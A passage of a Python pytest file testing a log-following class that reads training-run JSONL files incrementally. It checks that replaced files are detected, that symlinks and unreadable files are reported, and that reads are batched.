    monkeypatch.setattr(own_files, "blocks", blocks)
    first, second, unread = follower.read()
    assert (first["t"], second["t"], unread["why"]) == (1, 2, "cannot be read: Input/output error")
    assert type(unread["count"]) is int
    assert follower.read() == []


def test_a_reader_of_a_whole_run_sees_whether_its_files_only_grew(run_dir: Path) -> None:
    """The page of a run reads on where it stopped, but begins anew if a file was replaced, even by a longer one."""
    follower, log = Follower(run_dir, from_start=True), run_dir / "ranks/rank-0.jsonl"
    for t in range(4):
        append(log, json.dumps({**STEP, "t": t, "rank": 0}) + "\n")
        assert follower.only_grew
        assert [event["t"] for event in follower.read()] == [t]
    append(log, json.dumps({**STEP, "t": 4, "rank": 0}) + "\n")
    assert follower.only_grew, "what was read is as it was"
    written = log.read_text()
    log.write_text(written.replace('"t": 3', '"t": 7'))
    assert not follower.only_grew
    log.write_text(written)
    assert follower.only_grew
    log.unlink()
    assert not follower.only_grew


def test_a_link_in_the_place_of_a_ranks_file_is_named_and_not_followed(run_dir: Path, tmp_path: Path) -> None:
    append(tmp_path / "other", json.dumps({**STEP, "t": 1, "rank": 0}) + "\n")
    follower = Follower(run_dir, from_start=True)
    (run_dir / "ranks/rank-0.jsonl").symlink_to(tmp_path / "other")
    (unread,) = follower.read()
    assert (unread["kind"], unread["where"]) == ("unread", "rank-0.jsonl")
    assert unread["why"].startswith("cannot be read: ")


def test_more_documents_than_one_look_may_read_wait_for_the_next_looks(
    run_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(follower_module, "_MOST_AT_ONCE", 100)
    for number in range(5):
        (run_dir / f"nodes/n{number}.json").write_text(json.dumps({"node": f"n{number}", "t": 1, "pad": "x" * 60}))
    follower = Follower(run_dir)
    looks = [[event["node"] for event in follower.read()] for _ in range(4)]
    assert looks == [["n0", "n1"], ["n2", "n3"], ["n4"], []]


@pytest.mark.parametrize(
    ("sizes", "most", "share"),
    [([], 60, 60), ([10, 20], 60, 50), ([50, 10, 70], 60, 25), ([100, 100], 60, 30), ([80, 10, 10], 60, 40)],
)
def test_long_files_share_what_short_files_leave(sizes: list[int], most: int, share: int) -> None:
    assert follower_module._share(sizes, most) == share
